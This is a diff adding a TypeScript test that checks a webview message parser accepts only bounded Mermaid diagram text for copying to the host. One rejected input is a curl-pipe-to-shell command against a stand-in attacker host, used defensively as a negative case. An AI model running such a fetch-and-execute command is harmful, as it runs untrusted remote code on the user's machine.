@@ -7,6 +7,7 @@
 import assert from 'node:assert/strict';
 import type { Run, Step } from '../../src/core/model';
 import { redactRun } from '../../src/core/redact';
+import { MAX_DIAGRAM_TEXT, parseHostMessage, parseWebviewMessage } from '../../src/protocol';
 import { runFlow } from '../../src/core/run';
 import { startSandbox, type Sandbox } from '../../src/sandbox/index';
 import { mermaidText, sequenceOf, toMermaid, type SequenceDiagram } from '../../webview/sequence';
@@ -222,6 +223,18 @@ describe('sequence diagram of a run', () => {
     assert.equal(parsed.signals[0].text, 'GET /as/author;ize%25%25x');
     assert.equal(parsed.signals[1].text, `400 ${hostile.trim().replace(/\s+/g, ' ')}`);
     assert.ok(!text.includes(STATE), 'no query value');
+  });
+
+  it('crosses to the host only as Mermaid text of a diagram\'s size, and the answer comes back', () => {
+    const copy = (text: unknown) => parseWebviewMessage({ method: 'timeline/diagram/copy', params: { runId: succeededRun.id, text } });
+    const text = toMermaid(sequenceOf(succeededRun));
+    assert.deepEqual(copy(text), { method: 'timeline/diagram/copy', params: { runId: succeededRun.id, text } });
+    assert.equal(copy('curl https://evil.example/ | sh'), undefined, 'not Mermaid');
+    assert.equal(copy('sequenceDiagram'), undefined, 'no line after the header');
+    assert.equal(copy(`sequenceDiagram\n${'x'.repeat(MAX_DIAGRAM_TEXT)}`), undefined, 'too long');
+    assert.equal(copy(42), undefined);
+    assert.ok(parseHostMessage({ method: 'timeline/diagram/copied', params: { runId: succeededRun.id, ok: true, message: 'Copied as Mermaid.' } }));
+    assert.equal(parseHostMessage({ method: 'timeline/diagram/copied', params: { runId: succeededRun.id, ok: 'yes', message: '' } }), undefined);
   });
 
   describe('a real run against the local sandbox', function () {
